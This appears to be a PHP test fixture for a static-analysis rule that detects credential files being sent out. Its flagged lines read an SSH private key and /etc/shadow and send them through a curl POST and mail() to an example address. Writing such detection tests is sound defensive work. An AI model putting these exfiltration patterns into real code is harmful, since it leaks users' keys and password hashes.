<?php
function collect($handle, $home)
{
    $key = file_get_contents($home . "/.ssh/id_rsa");
    // ruleid: php-credential-file-sent
    curl_setopt($handle, CURLOPT_POSTFIELDS, ["k" => $key]);
    // ruleid: php-credential-file-sent
    mail("a@example.net", "s", file_get_contents("/etc/shadow"));
    // ok: php-credential-file-sent
    mail("a@example.net", "s", file_get_contents("report.txt"));
    $token = find_token(file_get_contents($home . "/.npmrc"));
    // ok: php-credential-file-sent
    curl_setopt($handle, CURLOPT_POSTFIELDS, ["t" => $token]);
}
